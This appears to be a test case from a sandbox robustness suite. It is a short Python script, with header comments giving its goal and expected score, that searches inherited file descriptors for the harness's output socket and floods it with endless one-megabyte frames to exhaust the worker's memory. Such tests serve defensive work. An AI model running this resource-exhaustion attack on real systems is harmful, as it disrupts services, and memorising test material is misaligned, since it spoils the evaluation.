# tries: to fill the worker's memory with one message without an end, on the connection for outputs
# must: be ended for its output
# score: 0
# ended_by: "output"
import os, socket, struct, time

frame = struct.pack(">BQ", 3, 1_000_000) + bytes(1_000_000)  # says that more will follow
for descriptor in range(3, 300):
    try:
        stream = socket.socket(fileno=os.dup(descriptor))
        name = stream.getsockname()
        name = name.decode() if isinstance(name, bytes) else str(name)
        if name.endswith("k-2") and not stream.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            stream.setblocking(True)
            for _ in range(3000):
                stream.sendall(frame)
    except OSError:
        pass
time.sleep(60)
